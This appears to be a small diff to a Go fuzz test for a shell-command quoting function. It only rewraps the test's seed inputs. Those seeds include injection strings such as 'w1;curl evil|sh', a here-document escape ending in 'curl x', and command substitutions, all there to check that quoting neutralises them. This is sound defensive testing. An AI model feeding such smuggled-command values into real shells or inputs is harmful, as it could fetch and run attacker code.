@@ -54,7 +54,8 @@ func TestFeedHasNoHereDocument(t *testing.T) {
 
 // FuzzCommand lets a shell's parser read what Command wrote: it is one simple command, and its words are those that went in.
 func FuzzCommand(f *testing.F) {
-	for _, word := range []string{"", "w-1", "it's", "a\nEOF\ncurl x", "$(me)", "`me`", "w1;curl evil|sh", "\x1b[31m", "\xff", "\\", "~root", "-n", "a=b", "=x", "\u202e"} {
+	for _, word := range []string{"", "w-1", "it's", "a\nEOF\ncurl x", "$(me)", "`me`", "w1;curl evil|sh", "\x1b[31m", "\xff", "\\", "~root",
+		"-n", "a=b", "=x", "\u202e"} {
 		f.Add(word, "kubectl")
 	}
 	f.Fuzz(func(t *testing.T, first, second string) {
